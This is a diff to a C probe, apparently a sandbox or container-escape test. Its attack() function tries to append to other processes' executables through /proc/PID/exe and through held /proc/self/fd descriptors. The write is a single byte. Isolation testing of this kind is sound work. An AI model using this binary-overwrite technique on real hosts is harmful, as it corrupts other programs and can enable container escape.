@@ -77,6 +77,7 @@ static long run(const char *n) {
  * exe that is not ours to reopen it for writing later through /proc/self/fd. */
 static int attack(void) {
     static int held[1024];
+    static char held_target[1024][256];
     int nheld = 0;
     long rounds = 0, saw = 0, wrote = 0;
     char self[32];
@@ -87,33 +88,40 @@ static int attack(void) {
         struct dirent *e;
         while (d && (e = readdir(d))) {
             if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
-            char path[300], target[512];
+            char path[300], target[256];
             snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+            ssize_t n = readlink(path, target, sizeof target - 1);
+            target[n < 0 ? 0 : n] = 0;
             int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
             if (w >= 0) {
                 if (write(w, "x", 1) == 1) wrote++;
-                printf("WROTE %s\n", path);
+                printf("WROTE %s\n", target);
                 close(w);
             }
-            ssize_t n = readlink(path, target, sizeof target - 1);
             if (n < 0) continue;
-            target[n] = 0;
             if (!strcmp(target, "/bin/busybox") || !strcmp(target, "/bin/probe")) continue;
-            saw++;
-            printf("SAW %s %s\n", path, target);
             int r = open(path, O_PATH | O_CLOEXEC);
-            if (r >= 0 && nheld < 1024) held[nheld++] = r;
-            else if (r >= 0) close(r);
+            if (r < 0) continue;
+            int dup = 0;
+            for (int i = 0; i < nheld; i++) dup |= !strcmp(held_target[i], target);
+            if (dup || nheld >= 1024) { close(r); continue; }
+            saw++;
+            printf("SAW %s\n", target);
+            snprintf(held_target[nheld], sizeof held_target[nheld], "%s", target);
+            held[nheld++] = r;
         }
         if (d) closedir(d);
         for (int i = 0; i < nheld; i++) {
+            if (held[i] < 0) continue;
             char via[64];
             snprintf(via, sizeof via, "/proc/self/fd/%d", held[i]);
             int w = open(via, O_WRONLY | O_APPEND | O_CLOEXEC);
             if (w >= 0) {
                 if (write(w, "x", 1) == 1) wrote++;
-                printf("WROTE via held fd %s\n", via);
+                printf("WROTE %s\n", held_target[i]);
                 close(w);
+                close(held[i]);
+                held[i] = -1;
             }
         }
         fflush(stdout);
